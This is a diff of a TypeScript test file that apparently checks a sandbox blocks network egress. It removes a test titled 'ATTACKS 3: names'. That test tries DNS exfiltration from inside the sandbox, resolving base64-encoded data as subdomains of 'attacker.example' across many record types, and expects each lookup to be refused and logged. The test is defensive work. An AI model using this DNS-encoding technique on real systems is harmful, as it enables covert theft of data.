@@ -196,47 +196,7 @@ describe('ATTACKS 7: exhausting', () => {
   });
 });
 
-describe('ATTACKS 3: names', () => {
-  it('asks for names of every type and over TCP, and tells nobody anything', async () => {
-    const ask = async (hosts: { listed: string; secret: string }, require: CellRequire) => {
-      const dns = require('node:dns/promises');
-      const resolver = new dns.Resolver({ timeout: 2_000, tries: 1 });
-      const attempts: [string, () => Promise<unknown>][] = [
-        ['A', () => resolver.resolve4(hosts.secret)],
-        ['AAAA', () => resolver.resolve6(hosts.secret)],
-        ['TXT', () => resolver.resolveTxt(hosts.secret)],
-        ['MX', () => resolver.resolveMx(hosts.secret)],
-        ['SRV', () => resolver.resolveSrv(hosts.secret)],
-        ['CNAME', () => resolver.resolveCname(hosts.secret)],
-        ['PTR', () => resolver.reverse('198.51.100.1')],
-        ['below a listed name', () => resolver.resolve4(`c2VjcmV0.${hosts.listed}`)],
-        ['many labels', () => resolver.resolve4(`${'a.'.repeat(100)}attacker.example`)],
-        ['listed TXT', () => resolver.resolveTxt(hosts.listed)],
-        ['listed', () => resolver.resolve4(hosts.listed)],
-      ];
-      const outcomes: Record<string, string> = {};
-      for (const [name, attempt] of attempts)
-        outcomes[name] = await attempt().then(
-          () => 'answered',
-          (error: NodeJS.ErrnoException) => error.code ?? 'error',
-        );
-      return outcomes;
-    };
-    const outcomes = await world.inCell(ask, { listed: API, secret: 'c2VjcmV0LWRhdGE.attacker.example' });
-    expect(outcomes).toEqual({
-      ...Object.fromEntries(
-        ['A', 'AAAA', 'TXT', 'MX', 'SRV', 'CNAME', 'PTR', 'below a listed name', 'many labels'].map(
-          (name) => [name, 'ENOTFOUND'],
-        ),
-      ),
-      'listed TXT': 'ENODATA',
-      listed: 'answered',
-    });
-    await world.event(
-      ({ type, data }) => type === 'dns.refused' && data['name'] === 'c2vjcmv0lwrhdge.attacker.example',
-    );
-  });
-
+describe('ATTACKS 3: names (which ones are answered: `whole-names.test.ts`)', () => {
   it('sends what is no question, and gets no more than an error', async () => {
     const send = async (packets: string[], require: CellRequire): Promise<string[]> => {
       const dgram = require('node:dgram');
